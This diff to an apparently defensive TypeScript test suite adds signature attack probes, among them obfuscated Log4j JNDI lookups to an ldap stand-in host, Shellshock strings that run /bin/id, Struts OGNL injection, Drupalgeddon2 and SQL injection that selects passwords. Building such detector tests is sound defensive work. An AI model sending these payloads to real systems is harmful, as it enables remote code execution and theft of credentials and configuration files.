@@ -57,7 +57,7 @@ const attack = (name: string, url: string, headers: [string, string][] = [], bod
   method: body === undefined ? 'GET' : 'POST',
   url,
   headers: [
-    ua,
+    ...(headers.some(([n]) => n === 'user-agent') ? [] : [ua]),
     ...headers,
     ...(body === undefined
       ? []
@@ -77,6 +77,16 @@ export const SIGNATURE_ATTACKS: readonly Probe[] = [
   attack('log4j-obfuscated', '/', [
     ['referer', ['$', '{', '$', '{lower:j}ndi:ldap://e.example/a}'].join('')],
   ]),
+  attack('log4j-obfuscated-body', '/login', [], 'user=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%7D'),
+  attack('shellshock-uri', '/cgi-bin/test?x=()%20%7B%20:;%20%7D;%20/bin/id'),
+  attack('struts-ognl-content-type', '/upload.action', [['content-type', "%{(#_='multipart/form-data')}"]]),
+  attack(
+    'wordpress-xmlrpc-multicall',
+    '/xmlrpc.php',
+    [],
+    '<methodCall><methodName>system.multicall</methodName></methodCall>',
+  ),
+  attack('joomla-config-disclosure', '/api/index.php/v1/config/application?public=true'),
   attack('shellshock-headers', '/cgi-bin/status', [['x-probe', '() { :; }; echo; /bin/id']]),
   attack('probe-database-admin', '/phpmyadmin/index.php'),
   attack('probe-dotenv', '/.env'),
@@ -90,7 +100,7 @@ export const SIGNATURE_ATTACKS: readonly Probe[] = [
   attack('wordpress-config-backup', '/wp-config.php.bak'),
   attack(
     'drupalgeddon2',
-    '/user/register?element_parents=account/mail/%23value&ajax_form=1&mail[#post_render][]=exec',
+    '/user/register?element_parents=account/mail/%23value&ajax_form=1&mail[%23post_render][]=exec',
   ),
   attack('sqli-union-select', "/item?id=1'%20union%20select%20password%20from%20users--"),
   attack('sqli-time-based', '/item?id=1%20and%20sleep(5)'),
